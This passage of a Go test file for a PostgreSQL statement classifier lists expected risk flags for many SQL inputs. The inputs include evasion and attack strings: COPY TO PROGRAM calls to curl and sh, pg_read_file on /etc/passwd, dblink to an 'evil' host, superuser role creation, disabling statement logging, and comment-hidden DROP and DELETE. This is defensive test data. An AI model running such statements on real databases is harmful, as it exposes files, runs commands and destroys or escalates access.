package sqlclass

import (
	"slices"
	"strings"
	"testing"
)

// flagsOf renders a statement's booleans in a fixed order, so one string
// asserts every flag at once.
func flagsOf(st *Statement) string {
	var f []string
	add := func(ok bool, s string) {
		if ok {
			f = append(f, s)
		}
	}
	add(st.Reads, "r")
	add(st.Writes, "w")
	add(st.DDL, "ddl")
	add(st.Privilege, "priv")
	add(st.UnsafeIO, "io")
	add(st.Procedural, "proc")
	add(st.Session, "sess")
	add(st.Transaction, "tx")
	add(st.Maintenance, "maint")
	add(st.SideEffects, "se")
	add(st.Locks, "lock")
	add(st.SearchPath, "sp")
	add(st.Unknown, "unk")
	add(!st.Executes, "noexec")
	add(st.HasWhere, "where")
	add(st.WhereIsConstant, "const")
	return strings.Join(f, " ")
}

func canon(flags string) string {
	order := []string{"r", "w", "ddl", "priv", "io", "proc", "sess", "tx", "maint", "se", "lock", "sp", "unk", "noexec", "where", "const"}
	have := strings.Fields(flags)
	var out []string
	for _, o := range order {
		if slices.Contains(have, o) {
			out = append(out, o)
		}
	}
	for _, h := range have {
		if !slices.Contains(order, h) {
			out = append(out, "BADFLAG:"+h)
		}
	}
	return strings.Join(out, " ")
}

type row struct {
	sql   string
	kind  Kind
	flags string
	// Optional checks; nil/empty means "not checked".
	written []string
	read    []string
	funcs   []string
	kinds   []string
	exec    string
	prep    string
	n       int // statements expected (0 means 1)
	i       int // which statement the other fields describe
}

// corpus is the classification corpus: ordinary statements, and every
// evasion from research/policy.md §2.3.
var corpus = []row{
	// Plain reads.
	{sql: "SELECT 1", kind: KindSelect, flags: "r"},
	{sql: "select * from users", kind: KindSelect, flags: "r", read: []string{"users"}},
	{sql: "SELECT * FROM public.users WHERE id = 1", kind: KindSelect, flags: "r where", read: []string{"public.users", "users"}},
	{sql: "SELECT * FROM mydb.public.users", kind: KindSelect, flags: "r", read: []string{"mydb.public.users", "users"}},
	{sql: `SELECT * FROM "Users"`, kind: KindSelect, flags: "r", read: []string{"Users"}},
	{sql: "SELECT a.id, b.x FROM a JOIN b ON a.id = b.a_id WHERE b.x > 3", kind: KindSelect, flags: "r where", read: []string{"a", "b"}},
	{sql: "SELECT * FROM t WHERE id IN (SELECT id FROM u)", kind: KindSelect, flags: "r where", read: []string{"t", "u"}},
	{sql: "SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1", kind: KindSelect, flags: "r", funcs: []string{"count"}},
	{sql: "SELECT * FROM t ORDER BY id LIMIT 10 OFFSET 5", kind: KindSelect, flags: "r"},
	// Must hold: a locking clause is not a read (PostgreSQL refuses it in a read-only
	// transaction; the row locks block the application's writes).
	{sql: "SELECT * FROM t FOR UPDATE", kind: KindSelect, flags: "r lock"},
	{sql: "VALUES (1), (2)", kind: KindSelect, flags: "r"},
	{sql: "TABLE users", kind: KindSelect, flags: "r", read: []string{"users"}},
	{sql: "SELECT 1 UNION SELECT 2", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM a WHERE x = 1 UNION ALL SELECT * FROM b WHERE y = 2", kind: KindSelect, flags: "r where"},
	{sql: "SELECT * FROM a WHERE x = 1 UNION ALL SELECT * FROM b", kind: KindSelect, flags: "r"},
	{sql: "WITH x AS (SELECT * FROM t) SELECT * FROM x", kind: KindSelect, flags: "r", read: []string{"t"}},
	{sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", kind: KindSelect, flags: "r"},
	{sql: "SELECT now(), current_user, version()", kind: KindSelect, flags: "r", funcs: []string{"now", "version"}},
	{sql: "SELECT pg_catalog.upper('x')", kind: KindSelect, flags: "r", funcs: []string{"pg_catalog.upper", "upper"}},
	{sql: "SELECT currval('s')", kind: KindSelect, flags: "r"},
	{sql: "SELECT current_setting('search_path')", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM generate_series(1, 10)", kind: KindSelect, flags: "r", funcs: []string{"generate_series"}},
	{sql: "SELECT * FROM t WHERE true", kind: KindSelect, flags: "r where const"},
	{sql: "SHOW search_path", kind: KindShow, flags: "r"},
	{sql: "SHOW ALL", kind: KindShow, flags: "r"},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM t", kind: "DECLARE", flags: "r", read: []string{"t"}},
	{sql: "FETCH 10 FROM c", kind: "FETCH", flags: "r"},
	{sql: "MOVE NEXT IN c", kind: "MOVE", flags: "r"},
	{sql: "CLOSE c", kind: "CLOSE", flags: "r"},
	{sql: "SELECT 'DROP TABLE customers'", kind: KindSelect, flags: "r"},
	{sql: "SELECT 'a; DELETE FROM t'", kind: KindSelect, flags: "r"},
	{sql: "SELECT $1::int", kind: KindSelect, flags: "r"},
	{sql: "SELECT * FROM users WHERE email = $1", kind: KindSelect, flags: "r where"},

	// Comments, nesting, case, whitespace.
	{sql: "/* a /* b */ DELETE FROM t */ SELECT 1", kind: KindSelect, flags: "r"},
	{sql: "-- DELETE FROM t\nSELECT 1", kind: KindSelect, flags: "r"},
	{sql: "SELECT 1 -- ; DROP TABLE t", kind: KindSelect, flags: "r"},
	{sql: "SELECT /* ; DROP TABLE t; */ 1", kind: KindSelect, flags: "r"},
	{sql: "/* x */ DELETE /* y */ FROM /* z */ t", kind: KindDelete, flags: "w", written: []string{"t"}},
	{sql: "DROP/**/TABLE t", kind: KindDrop, flags: "w ddl", written: []string{"t"}},
	{sql: "DROP\nTABLE\tt", kind: KindDrop, flags: "w ddl", written: []string{"t"}},
	{sql: "dRoP tAbLe T", kind: KindDrop, flags: "w ddl", written: []string{"t"}},
	{sql: "  \n\t delete from t  ", kind: KindDelete, flags: "w"},
	{sql: "/* nested /* deeper /* deepest */ */ */ DROP TABLE t", kind: KindDrop, flags: "w ddl"},

	// Quoting: dollar, E'', unicode escapes.
	{sql: "SELECT $$a)b$$", kind: KindSelect, flags: "r"},
	{sql: "WITH x AS (SELECT $$a)b$$) DELETE FROM customers", kind: KindDelete, flags: "w", written: []string{"customers"}},
	{sql: "SELECT $tag$ '; DROP TABLE t; -- $tag$", kind: KindSelect, flags: "r"},
	{sql: "SELECT $a$ $b$ DROP TABLE t $b$ $a$", kind: KindSelect, flags: "r"},
	{sql: `SELECT E'O\'Brien'; DELETE FROM customers`, kind: KindDelete, flags: "w", n: 2, i: 1, written: []string{"customers"}},
	{sql: `SELECT E'O\'Brien; DELETE FROM customers'`, kind: KindSelect, flags: "r"},
	{sql: `SELECT 'O''Brien; DELETE FROM customers'`, kind: KindSelect, flags: "r"},
	{sql: `SELECT 'a\'; DELETE FROM t; --'`, kind: KindDelete, flags: "w", n: 2, i: 1},
	{sql: `SELECT U&'\0044ROP TABLE t'`, kind: KindSelect, flags: "r"},
	{sql: `DELETE FROM U&"\0074"`, kind: KindDelete, flags: "w", written: []string{"t"}},
	{sql: `SELECT * FROM U&"d\0061ta"`, kind: KindSelect, flags: "r", read: []string{"data"}},
	{sql: `SELECT B'101', X'1F'`, kind: KindSelect, flags: "r"},
	{sql: "SELECT '\u00e9t\u00e9' AS \"caf\u00e9\"", kind: KindSelect, flags: "r"},

	// Writes.
	{sql: "INSERT INTO t (a) VALUES (1)", kind: KindInsert, flags: "w", written: []string{"t"}},
	{sql: "INSERT INTO s.t SELECT * FROM u WHERE x > 1", kind: KindInsert, flags: "r w where", written: []string{"s.t", "t"}, read: []string{"u"}},
	{sql: "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a", kind: KindInsert, flags: "w"},
	{sql: "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", kind: KindInsert, flags: "w"},
	{sql: "INSERT INTO t VALUES (1) RETURNING id", kind: KindInsert, flags: "w"},
	{sql: "UPDATE t SET a = 1 WHERE id = 2", kind: KindUpdate, flags: "w where", written: []string{"t"}},
	{sql: "UPDATE t SET a = 1", kind: KindUpdate, flags: "w"},
	{sql: "UPDATE t SET a = u.b FROM u WHERE t.id = u.id", kind: KindUpdate, flags: "r w where", written: []string{"t"}, read: []string{"u"}},
	{sql: "UPDATE t SET a = (SELECT max(b) FROM u)", kind: KindUpdate, flags: "r w", read: []string{"u"}},
	{sql: "UPDATE t SET a = 1 WHERE CURRENT OF c", kind: KindUpdate, flags: "w where"},
	{sql: "DELETE FROM t WHERE id = 5", kind: KindDelete, flags: "w where", written: []string{"t"}},
	{sql: "DELETE FROM t", kind: KindDelete, flags: "w"},
	{sql: "DELETE FROM ONLY t WHERE id = 5", kind: KindDelete, flags: "w where"},
	{sql: "DELETE FROM t USING u WHERE t.id = u.id", kind: KindDelete, flags: "r w where", read: []string{"u"}},
	{sql: "DELETE FROM t WHERE id IN (SELECT id FROM t LIMIT 10)", kind: KindDelete, flags: "r w where"},
	{sql: "DELETE FROM t RETURNING *", kind: KindDelete, flags: "w"},

	// Constant WHERE clauses.
	{sql: "DELETE FROM t WHERE true", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 1=1", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 'a'='a'", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE NOT false", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 1 <> 2", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 't'::boolean", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 1::boolean", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 'yes'", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE NULL IS NULL", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE true IS TRUE", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE id = 5 OR 1 = 1", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE id = 5 OR 'a' = 'a'", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE NOT (id = 5 AND false)", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE id = id", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE t.id IS NOT DISTINCT FROM t.id", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE random() < 2", kind: KindDelete, flags: "w where const", funcs: []string{"random"}},
	{sql: "DELETE FROM t WHERE now() > '2000-01-01'", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE EXISTS (SELECT 1)", kind: KindDelete, flags: "w where const"},
	{sql: "DELETE FROM t WHERE 2 > 1", kind: KindDelete, flags: "w where const"},
	{sql: "UPDATE t SET a = 1 WHERE 1 = 1 AND id = 5", kind: KindUpdate, flags: "w where"},
	{sql: "UPDATE t SET a = 1 WHERE 1.0 = 1", kind: KindUpdate, flags: "w where const"},
	{sql: "DELETE FROM t WHERE id = 5 AND 'a' < 'b'", kind: KindDelete, flags: "w where"},

	// Data-modifying CTEs, hidden writes.
	{sql: "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", kind: KindSelect, flags: "r w", written: []string{"orders"}, kinds: []string{"SELECT", "DELETE"}},
	{sql: "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", kind: KindSelect, flags: "r w where"},
	{sql: "WITH u AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u", kind: KindInsert, flags: "w", written: []string{"log", "t"}},
	{sql: "WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a, b", kind: KindSelect, flags: "r w", written: []string{"t"}},
	// PostgreSQL rejects this at analysis; the parser accepts it, and it is
	// judged as the write it would be.
	{sql: "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", kind: KindSelect, flags: "r w"},
	{sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", kind: KindCopy, flags: "r w", written: []string{"t"}, kinds: []string{"COPY", "DELETE"}},
	{sql: "COPY (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) TO STDOUT", kind: KindCopy, flags: "r w where"},
	{sql: "COPY (SELECT * FROM t) TO STDOUT", kind: KindCopy, flags: "r", read: []string{"t"}},
	{sql: "COPY t TO STDOUT", kind: KindCopy, flags: "r", read: []string{"t"}},
	{sql: "COPY t (a, b) TO STDOUT WITH (FORMAT csv)", kind: KindCopy, flags: "r"},
	{sql: "COPY t FROM STDIN", kind: KindCopy, flags: "w", written: []string{"t"}},
	{sql: "COPY t FROM STDIN WHERE a > 1", kind: KindCopy, flags: "w"},
	{sql: "COPY t TO '/tmp/x'", kind: KindCopy, flags: "r io"},
	{sql: "COPY t FROM '/etc/passwd'", kind: KindCopy, flags: "w io"},
	{sql: "COPY t TO PROGRAM 'curl http://evil'", kind: KindCopy, flags: "r io"},
	{sql: "COPY t FROM PROGRAM 'id'", kind: KindCopy, flags: "w io"},
	{sql: "COPY (SELECT 1) TO PROGRAM 'sh -c id'", kind: KindCopy, flags: "r io"},
	{sql: "SELECT * INTO newt FROM t", kind: KindCreate, flags: "r w ddl", written: []string{"newt"}, read: []string{"t"}, kinds: []string{"CREATE", "SELECT"}},
	{sql: "SELECT * INTO TEMP tt FROM t WHERE a = 1", kind: KindCreate, flags: "r w ddl where"},
	{sql: "CREATE TABLE n AS SELECT * FROM t", kind: KindCreate, flags: "r w ddl", written: []string{"n"}, read: []string{"t"}},
	{sql: "CREATE TABLE n AS SELECT * FROM t WITH NO DATA", kind: KindCreate, flags: "r ddl"},
	{sql: "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", kind: KindCreate, flags: "r w ddl"},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", kind: KindMerge, flags: "r w where", written: []string{"t"}, read: []string{"s"}},
	{sql: "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", kind: KindMerge, flags: "r w where const"},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", kind: KindMerge, flags: "r w where"},

	// EXPLAIN.
	{sql: "EXPLAIN SELECT * FROM t", kind: KindExplain, flags: "r noexec", read: []string{"t"}},
	{sql: "EXPLAIN DELETE FROM t", kind: KindExplain, flags: "r noexec", kinds: []string{"EXPLAIN", "DELETE"}},
	{sql: "EXPLAIN (FORMAT JSON) UPDATE t SET a = 1", kind: KindExplain, flags: "r noexec"},
	{sql: "EXPLAIN ANALYZE DELETE FROM t", kind: KindDelete, flags: "w", written: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE) DELETE FROM t WHERE id = 1", kind: KindDelete, flags: "w where"},
	{sql: "EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1", kind: KindUpdate, flags: "w"},
	{sql: "EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)", kind: KindInsert, flags: "w"},
	{sql: "EXPLAIN (ANALYZE false) DELETE FROM t", kind: KindExplain, flags: "r noexec"},
	{sql: "EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t", kind: KindExplain, flags: "r noexec"},
	{sql: "EXPLAIN ANALYZE SELECT * FROM t", kind: KindSelect, flags: "r"},
	{sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", kind: KindSelect, flags: "r w"},
	{sql: "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", kind: KindCreate, flags: "r w ddl"},
	{sql: "EXPLAIN ANALYZE EXECUTE p(1)", kind: KindExecute, flags: "", exec: "p"},
	{sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')", kind: KindExplain, flags: "r io noexec"},

	// PREPARE / EXECUTE / DEALLOCATE.
	{sql: "PREPARE p AS DELETE FROM t WHERE id = $1", kind: KindDelete, flags: "w noexec where", prep: "p", written: []string{"t"}},
	{sql: "PREPARE q (int) AS SELECT * FROM t WHERE id = $1", kind: KindSelect, flags: "r noexec where", prep: "q"},
	{sql: "PREPARE r AS DELETE FROM t", kind: KindDelete, flags: "w noexec", prep: "r"},
	{sql: "EXECUTE p(1)", kind: KindExecute, flags: "", exec: "p"},
	{sql: "EXECUTE p(pg_read_file('/etc/passwd'))", kind: KindExecute, flags: "io", exec: "p"},
	{sql: "CREATE TABLE x AS EXECUTE p", kind: KindCreate, flags: "r w ddl", exec: "p"},
	{sql: "DEALLOCATE p", kind: KindDeallocate, flags: "sess"},
	{sql: "DEALLOCATE ALL", kind: KindDeallocate, flags: "sess"},
	{sql: "PREPARE p AS SELECT 1; EXECUTE p", kind: KindExecute, flags: "", n: 2, i: 1, exec: "p"},

	// Multi-statement strings.
	{sql: "SELECT 1; DROP TABLE t", kind: KindDrop, flags: "w ddl", n: 2, i: 1},
	{sql: "SELECT 1; SELECT 2; SELECT 3", kind: KindSelect, flags: "r", n: 3, i: 2},
	{sql: "BEGIN; DELETE FROM t; COMMIT", kind: KindDelete, flags: "w", n: 3, i: 1},
	{sql: "SELECT 1;;; SELECT 2", kind: KindSelect, flags: "r", n: 2, i: 1},
	{sql: "SELECT 1;", kind: KindSelect, flags: "r"},
	{sql: "SELECT ';'; DELETE FROM t", kind: KindDelete, flags: "w", n: 2, i: 1},

	// Procedural code.
	{sql: "DO $$ BEGIN DELETE FROM t; END $$", kind: KindDo, flags: "proc"},
	{sql: "DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$", kind: KindDo, flags: "proc"},
	{sql: "CALL my_proc(1)", kind: KindCall, flags: "proc", funcs: []string{"my_proc"}},
	{sql: "CALL s.p()", kind: KindCall, flags: "proc", funcs: []string{"s.p", "p"}},
	{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", kind: KindCreate, flags: "ddl proc", written: []string{"t"}},
	{sql: "SELECT query_to_xml('select pg_terminate_backend(1)', true, true, '')", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT ts_stat('select v from t')", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT table_to_xml('secrets', true, false, '')", kind: KindSelect, flags: "r", read: []string{"secrets"}},
	{sql: "SELECT table_to_xml(16384, true, false, '')", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT database_to_xml(true, false, '')", kind: KindSelect, flags: "r proc"},
	{sql: "SELECT cursor_to_xml(('p' || '')::refcursor, 10, false, false, '')", kind: KindSelect, flags: "r proc"},
	{sql: "LOAD 'evil'", kind: "LOAD", flags: "io proc"},

	// Privilege.
	{sql: "GRANT SELECT ON t TO bob", kind: KindGrant, flags: "priv", written: []string{"t"}},
	{sql: "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob", kind: KindGrant, flags: "priv"},
	{sql: "REVOKE ALL ON t FROM PUBLIC", kind: KindRevoke, flags: "priv"},
	{sql: "GRANT admin TO agent", kind: KindGrant, flags: "priv"},
	{sql: "REVOKE admin FROM agent", kind: KindRevoke, flags: "priv"},
	{sql: "CREATE ROLE evil SUPERUSER LOGIN", kind: KindCreate, flags: "ddl priv"},
	{sql: "CREATE USER u PASSWORD 'x'", kind: KindCreate, flags: "ddl priv"},
	{sql: "ALTER ROLE agent SUPERUSER", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER USER agent SET search_path = evil", kind: KindAlter, flags: "ddl priv sp"},
	{sql: "DROP ROLE bob", kind: KindDrop, flags: "ddl priv"},
	{sql: "ALTER TABLE t OWNER TO agent", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER TABLE t DISABLE ROW LEVEL SECURITY", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER FUNCTION f() OWNER TO agent", kind: KindAlter, flags: "ddl priv"},
	{sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", kind: KindAlter, flags: "ddl priv"},
	{sql: "REASSIGN OWNED BY a TO b", kind: "REASSIGN", flags: "ddl priv"},
	{sql: "CREATE POLICY p ON t USING (true)", kind: KindCreate, flags: "ddl priv"},
	{sql: "DROP POLICY p ON t", kind: KindDrop, flags: "ddl priv"},
	{sql: "SECURITY LABEL FOR anon ON COLUMN t.c IS 'MASKED'", kind: "SECURITY LABEL", flags: "ddl priv"},
	{sql: "ALTER SYSTEM SET log_statement = 'none'", kind: KindAlter, flags: "ddl priv"},
	{sql: "SET ROLE postgres", kind: KindSet, flags: "priv sess"},
	{sql: "SET LOCAL ROLE postgres", kind: KindSet, flags: "priv sess"},
	{sql: "set role = 'admin'", kind: KindSet, flags: "priv sess"},
	{sql: "RESET ROLE", kind: KindReset, flags: "priv sess"},
	{sql: "SET SESSION AUTHORIZATION postgres", kind: KindSet, flags: "priv sess"},
	{sql: "SET SESSION AUTHORIZATION DEFAULT", kind: KindSet, flags: "priv sess"},
	{sql: "RESET ALL", kind: KindReset, flags: "priv sess sp"}, // resets search_path too
	{sql: "DISCARD ALL", kind: KindDiscard, flags: "priv sess sp"},
	{sql: "SELECT set_config('role', 'postgres', false)", kind: KindSelect, flags: "r priv sess"},
	{sql: "SELECT pg_catalog.set_config('ROLE', 'postgres', false)", kind: KindSelect, flags: "r priv sess"},
	{sql: "SELECT set_config('session_authorization', 'postgres', false)", kind: KindSelect, flags: "r priv sess"},
	// Must hold: a computed setting name may be role (priv), search_path (sp) or
	// standard_conforming_strings/client_encoding (unk: later statements read differently).
	{sql: "SELECT set_config(lower('ROLE'), 'postgres', false)", kind: KindSelect, flags: "r priv sess sp unk"},
	{sql: "SELECT set_config('search_path', 'evil', false)", kind: KindSelect, flags: "r sess sp"},
	{sql: "SELECT set_config('standard_conforming_strings', 'off', false)", kind: KindSelect, flags: "r sess unk"},

	// Session.
	{sql: "SET search_path = evil, public", kind: KindSet, flags: "sess sp"},
	{sql: "SET search_path TO DEFAULT", kind: KindSet, flags: "sess sp"},
	{sql: "SET statement_timeout = '5s'", kind: KindSet, flags: "sess"},
	{sql: "SET application_name = 'x'", kind: KindSet, flags: "sess"},
	{sql: "RESET search_path", kind: KindReset, flags: "sess sp"},
	{sql: "SET standard_conforming_strings = off", kind: KindSet, flags: "sess unk"},
	{sql: "SET standard_conforming_strings = on", kind: KindSet, flags: "sess"},
	{sql: "SET client_encoding = 'SJIS'", kind: KindSet, flags: "sess unk"},
	{sql: "SET NAMES 'UTF8'", kind: KindSet, flags: "sess"},
	{sql: "DISCARD PLANS", kind: KindDiscard, flags: "sess"},
	{sql: "LISTEN ch", kind: "LISTEN", flags: "sess"},
	{sql: "UNLISTEN *", kind: "UNLISTEN", flags: "sess"},
	{sql: "NOTIFY ch, 'x'", kind: "NOTIFY", flags: "w se"},

	// Transaction control.
	{sql: "BEGIN", kind: KindBegin, flags: "tx"},
	{sql: "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", kind: KindBegin, flags: "tx"},
	{sql: "START TRANSACTION", kind: KindBegin, flags: "tx"},
	{sql: "COMMIT", kind: KindCommit, flags: "tx"},
	{sql: "END", kind: KindCommit, flags: "tx"},
	{sql: "ROLLBACK", kind: KindRollback, flags: "tx"},
	{sql: "ABORT", kind: KindRollback, flags: "tx"},
	{sql: "SAVEPOINT s1", kind: KindSavepoint, flags: "tx"},
	{sql: "RELEASE SAVEPOINT s1", kind: KindRelease, flags: "tx"},
	{sql: "ROLLBACK TO SAVEPOINT s1", kind: KindRollback, flags: "tx"},
	{sql: "PREPARE TRANSACTION 'x'", kind: "PREPARE TRANSACTION", flags: "w tx"},
	{sql: "COMMIT PREPARED 'x'", kind: "COMMIT PREPARED", flags: "w tx"},
	{sql: "SET TRANSACTION ISOLATION LEVEL READ COMMITTED", kind: KindSet, flags: "tx"},
	// Must hold: READ WRITE lifts a read-only default the DBA set on the role (privilege);
	// isolation levels and READ ONLY do not.
	{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", kind: KindSet, flags: "priv sess tx"},
	{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE", kind: KindSet, flags: "sess tx"},
	{sql: "SET TRANSACTION READ WRITE", kind: KindSet, flags: "priv tx"},
	{sql: "SET TRANSACTION READ ONLY", kind: KindSet, flags: "tx"},
	{sql: "BEGIN READ WRITE", kind: KindBegin, flags: "priv tx"},
	{sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", kind: KindBegin, flags: "priv tx"},
	{sql: "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY", kind: KindBegin, flags: "tx"},
	{sql: "SET CONSTRAINTS ALL DEFERRED", kind: KindSet, flags: "tx"},

	// Unsafe I/O functions and foreign servers.
	{sql: "SELECT pg_read_file('/etc/passwd')", kind: KindSelect, flags: "r io", funcs: []string{"pg_read_file"}},
	{sql: "SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", kind: KindSelect, flags: "r io"},
	{sql: "SELECT * FROM pg_ls_dir('/')", kind: KindSelect, flags: "r io"},
	{sql: "SELECT pg_stat_file('postgresql.conf')", kind: KindSelect, flags: "r io"},
	{sql: "SELECT lo_import('/etc/passwd')", kind: KindSelect, flags: "r w io se"},
	{sql: "SELECT lo_export(1234, '/tmp/x')", kind: KindSelect, flags: "r io"},
	{sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", kind: KindSelect, flags: "r w io se"},
	{sql: "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", kind: KindSelect, flags: "r w io se"},
	{sql: "SELECT PG_READ_FILE('x')", kind: KindSelect, flags: "r io"},
	{sql: `SELECT "pg_read_file"('x')`, kind: KindSelect, flags: "r io"},
	{sql: `SELECT U&"pg\005fread\005ffile"('x')`, kind: KindSelect, flags: "r io", funcs: []string{"pg_read_file"}},
	{sql: `SELECT "public"."pg_read_file"('x')`, kind: KindSelect, flags: "r io proc", funcs: []string{"public.pg_read_file", "pg_read_file"}},
	{sql: "SELECT * FROM t WHERE id = 1 FOR UPDATE SKIP LOCKED", kind: KindSelect, flags: "r lock where"},
	{sql: "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3))", kind: KindSelect, flags: "r io"},
	{sql: "SELECT * FROM t, LATERAL pg_read_file(t.path) f", kind: KindSelect, flags: "r io"},
	{sql: "SELECT length(pg_read_file('x')) FROM t WHERE id = 1", kind: KindSelect, flags: "r io where"},
	{sql: "SELECT * FROM t WHERE a = (SELECT pg_read_file('x'))", kind: KindSelect, flags: "r io where"},
	{sql: "CREATE EXTENSION dblink", kind: KindCreate, flags: "ddl io proc"},
	{sql: "CREATE EXTENSION IF NOT EXISTS postgres_fdw", kind: KindCreate, flags: "ddl io proc"},
	{sql: "CREATE EXTENSION pg_trgm", kind: KindCreate, flags: "ddl proc"},
	{sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", kind: KindCreate, flags: "ddl io"},
	{sql: "CREATE USER MAPPING FOR agent SERVER s OPTIONS (user 'x')", kind: KindCreate, flags: "ddl priv io"},
	{sql: "CREATE FOREIGN TABLE ft (a int) SERVER s", kind: KindCreate, flags: "ddl io"},
	{sql: "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", kind: "IMPORT FOREIGN SCHEMA", flags: "ddl io"},
	{sql: "CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p", kind: KindCreate, flags: "ddl io"},
	{sql: "CREATE TABLESPACE ts LOCATION '/tmp'", kind: KindCreate, flags: "ddl io"},

	// Side-effect functions.
	{sql: "SELECT nextval('s')", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT setval('s', 1)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_terminate_backend(123)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_cancel_backend(pid) FROM pg_stat_activity", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_advisory_lock(1)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_try_advisory_xact_lock(1)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_reload_conf()", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_notify('ch', 'x')", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT lo_unlink(1)", kind: KindSelect, flags: "r w se"},
	{sql: "INSERT INTO t (id) VALUES (nextval('s'))", kind: KindInsert, flags: "w se"},
	{sql: "SELECT * FROM t WHERE id = 1 AND pg_sleep(1) IS NOT NULL", kind: KindSelect, flags: "r where"},
	{sql: "SELECT my_volatile_fn()", kind: KindSelect, flags: "r proc", funcs: []string{"my_volatile_fn"}},
	{sql: "SELECT dblink_exec('host=x', 'DELETE FROM t')", kind: KindSelect, flags: "r w io se"},
	{sql: "SELECT public.dblink_exec('host=x', 'DELETE FROM t')", kind: KindSelect, flags: "r w io proc se"},
	{sql: "SELECT lo_get(1)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT loread(0, 10)", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT txid_current()", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT pg_export_snapshot()", kind: KindSelect, flags: "r w se"},
	{sql: "SELECT binary_upgrade_set_next_pg_type_oid(1)", kind: KindSelect, flags: "r w se"},
	{sql: `SELECT "nextval"('s')`, kind: KindSelect, flags: "r w se"},
	{sql: `SELECT "NEXTVAL"('s')`, kind: KindSelect, flags: "r w proc se"},
	{sql: "SELECT myschema.nextval('s')", kind: KindSelect, flags: "r w proc se"},
	{sql: "SELECT pg_catalog.nextval('s')", kind: KindSelect, flags: "r w se"},

	// Functions not known to be free of effects are code with unknown
	// effects (procedural), wherever they are called.
